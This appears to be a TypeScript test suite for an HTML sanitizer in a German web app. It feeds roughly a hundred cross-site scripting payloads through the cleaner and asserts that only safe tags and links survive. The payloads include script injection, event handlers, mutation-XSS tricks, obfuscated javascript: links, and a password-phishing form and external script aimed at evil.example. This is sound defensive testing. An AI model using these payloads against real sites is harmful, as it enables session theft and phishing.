import {
  INLINE,
  LISTS,
  MAX_RICH_TEXT_BYTES,
  RICH,
  RICH_LINK,
  type RichTextProfile,
} from '@wohlauf/contract/rich-text'
import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

const PROFILES = { INLINE, LISTS, RICH, RICH_LINK }

/**
 * The whole grammar of what may come out: text without a bare angle bracket, tags of the profile without attributes, and
 * links as the server writes them. What fits it can carry neither script nor style, however a browser reads it.
 */
const grammarOf = ({ tags, hasLinks }: RichTextProfile): RegExp => {
  const tag = `</?(?:${tags.join('|')})>`
  const link = `<a href="https?://[^"<>\\s\\\\]+" rel="noopener noreferrer nofollow" target="_blank">|</a>`
  return new RegExp(
    `^(?:[^<>&\\p{Cc}]|[\\t\\n\\r]|&(?:amp|lt|gt|quot);|${tag}${hasLinks ? `|${link}` : ''})*$`,
    'u',
  )
}

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script\x0b>alert(1)</script>',
  '<script/xss src=data:,alert(1)></script>',
  '<script>alert(1)',
  '</p><script>alert(1)</script><p>',
  '<p onclick="alert(1)">x</p>',
  '<p/onclick=alert(1)>x',
  '<strong onmouseover=alert(1)>x</strong>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">Bitte melde dich neu an</p>',
  '<p class="overlay" id="root" name="user" data-x="1">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<image src=x onerror=alert(1)>',
  '<img src=https://evil.example/pixel.gif>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>Anmelden</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<select><option><script>alert(1)</script></option></select>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="ftp://evil.example">x</a>',
  '<a href="mailto:x@evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https:///evil.example">x</a>',
  '<a href="/logout">x</a>',
  '<a href="profil">x</a>',
  '<a href="#fragment">x</a>',
  '<a href="">x</a>',
  '<a>x</a>',
  '<a name="x">x</a>',
  '<a href="https://wohlauf.example@evil.example/">x</a>',
  '<a href="https://user:password@evil.example/">x</a>',
  '<a href="https://evil.example/\u202egpj.exe">x</a>',
  '<a href="https://evil.example/ onclick=alert(1)">x</a>',
  '<a href="https://evil.example/"onclick="alert(1)">x</a>',
  '<a href="https://evil.example/" style="position:fixed;inset:0">x</a>',
  '<a href="https://evil.example/" target="_self" rel="opener">x</a>',
  `<a href='https://evil.example/"onmouseover="alert(1)'>x</a>`,
  '<a href="https://evil.example/&quot;onmouseover=alert(1)">x</a>',
  '<a href="https://">x</a>',
  '<a href="http://[::1">x</a>',
  '<p>\0<script\0>alert(1)</script></p>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<p>{{constructor.constructor("alert(1)")()}}</p>',
  `<${'p'.repeat(500)} onclick=alert(1)>`,
  '<p><p><p onclick=alert(1)',
  '<p "><img src=x onerror=alert(1)>"',
  '<ul><li><a href="https://a.example" onclick=alert(1)><h2 onclick=alert(1)>x</a></ul>',
]

describe.each(Object.entries(PROFILES))('%s', (_, profile) => {
  const grammar = grammarOf(profile)

  test.each(ATTACKS.map((attack) => [attack]))('comes out harmless: %j', (attack) => {
    const clean = cleanHtml(attack, profile)
    expect(clean).toMatch(grammar)
    expect(clean).not.toMatch(/javascript:|data:|vbscript:|evil\.example@|wohlauf\.example@/i)
    expect(cleanHtml(clean, profile)).toBe(clean)
  })

  test('keeps all that its toolbar offers as it is', () => {
    const samples: Record<string, string> = {
      p: '<p>Ein Satz – „mit“ Umlauten: äöüß & 😀.</p>',
      h2: '<h2>Titel</h2>',
      h3: '<h3>Untertitel</h3>',
      strong: '<strong>wichtig</strong>',
      em: '<em>betont</em>',
      ul: '<ul><li>eins<ul><li>eins a</li></ul></li></ul>',
      ol: '<ol><li>eins</li><li>zwei</li></ol>',
      li: '',
      br: 'eins<br>zwei',
    }
    for (const tag of profile.tags) {
      const html = (samples[tag] ?? '').replaceAll(' & ', ' &amp; ')
      expect(cleanHtml(html, profile)).toBe(html)
    }
  })
})

test('what no toolbar offers goes, and its text stays', () => {
  expect(cleanHtml('<h2>Titel</h2><div><u>Text</u></div>', LISTS)).toBe('TitelText')
  expect(cleanHtml('<p>eins <strong>zwei</strong></p>', INLINE)).toBe('eins <strong>zwei</strong>')
  expect(cleanHtml('<p><a href="https://a.example/">hier</a></p>', RICH)).toBe('<p>hier</p>')
  expect(cleanHtml('<p><b>fett</b> und <i>schräg</i></p>', LISTS)).toBe(
    '<p><strong>fett</strong> und <em>schräg</em></p>',
  )
})

test.each([
  '<script>alert(1)</script>',
  '<style>p { color: red }</style>',
  '<svg><text>unsichtbar</text></svg>',
  '<math><mtext>unsichtbar</mtext></math>',
  '<iframe>unsichtbar</iframe>',
  '<object>unsichtbar</object>',
  '<noscript>unsichtbar</noscript>',
  '<template>unsichtbar</template>',
  '<select><option>unsichtbar</option></select>',
  '<textarea>unsichtbar</textarea>',
  '<title>unsichtbar</title>',
  '<!-- unsichtbar -->',
])('what is no text of the page goes with all that is in it: %s', (html) =>
  expect(cleanHtml(`<p>vorher${html}nachher</p>`, RICH_LINK)).toBe('<p>vorhernachher</p>'),
)

describe('a link', () => {
  const linked = (href: string) => cleanHtml(`<p><a href="${href}">x</a></p>`, RICH_LINK)
  const link = (address: string) =>
    `<p><a href="${address}" rel="noopener noreferrer nofollow" target="_blank">x</a></p>`

  test.each([
    ['https://www.dge.de/a?b=1&amp;c=2#d', 'https://www.dge.de/a?b=1&amp;c=2#d'],
    ['http://example.org', 'http://example.org/'],
    ['HTTPS://Example.ORG/Pfad', 'https://example.org/Pfad'],
    ['  https://example.org/  ', 'https://example.org/'],
    ['https://de.example.org/Müsli', 'https://de.example.org/M%C3%BCsli'],
    ['https://müsli.example', 'https://xn--msli-0ra.example/'],
    ['https://example.org:8443/x', 'https://example.org:8443/x'],
  ])('to %s opens elsewhere and hands nothing on', (href, address) =>
    expect(linked(href)).toBe(link(address)),
  )

  test('to nowhere leaves its text', () => expect(linked('javascript:1')).toBe('<p>x</p>'))

  test('without text is none', () =>
    expect(cleanHtml('<p>a<a href="https://a.example"> </a>b</p>', RICH_LINK)).toBe('<p>ab</p>'))
})

test('lists deeper than anybody writes lose their depth, not the text', () => {
  const clean = cleanHtml(`${'<ul><li>'.repeat(200)}Text`, LISTS)
  expect(clean.match(/<ul>/g)?.length).toBeLessThanOrEqual(20)
  expect(clean).toContain('Text')
})

test('sixty-four kibibytes are cleaned, one byte more is refused before it is parsed', () => {
  const longest = 'ä'.repeat(MAX_RICH_TEXT_BYTES / 2)
  expect(cleanHtml(longest, INLINE)).toBe(longest)
  expect(() => cleanHtml(`${longest}a`, INLINE)).toThrow(RangeError)
})
